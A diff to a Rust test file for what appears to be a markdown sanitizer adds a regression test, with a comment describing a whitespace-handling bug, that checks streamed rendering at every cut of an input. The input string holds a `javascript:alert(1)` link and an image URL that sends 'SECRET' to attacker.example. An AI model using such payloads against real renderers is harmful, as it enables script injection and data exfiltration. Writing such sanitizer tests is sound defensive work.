@@ -923,3 +923,23 @@ fn removed_blocks_do_not_lengthen_the_run_of_line_feeds() {
         );
     }
 }
+
+/// Found 2026-12-04 by the stream property test on the first form of the fix above (a group
+/// of whitespace only wrote nothing after line feeds it took in, but its whitespace where it
+/// took in none): a stray `</details>` after a paragraph sanitizes to a line feed, and the
+/// stream's tail, rendered after a token without the line feed before the group, read
+/// `</p>\n\n<p>` where the tail asked again read `</p>\n<p>`. Such a group now writes nothing
+/// in every context. Checked with the stream oracle at every cut of the input.
+#[test]
+fn a_group_of_whitespace_only_reads_the_same_in_every_context() {
+    let s = default();
+    let input = "[l](javascript:alert(1)) `open lazy continuation\n![i](https://attacker.example/p.png?d=SECRET) \r\r\n</details>\n\r\ntext ";
+    for cut in (1..input.len()).filter(|&cut| input.is_char_boundary(cut)) {
+        let pushes = [
+            common::Push::Str(&input[..cut]),
+            common::Push::Str(&input[cut..]),
+        ];
+        common::check_stream(&s, None, input, &pushes, |_, _| Ok(()))
+            .unwrap_or_else(|e| panic!("cut at {cut}: {e}"));
+    }
+}
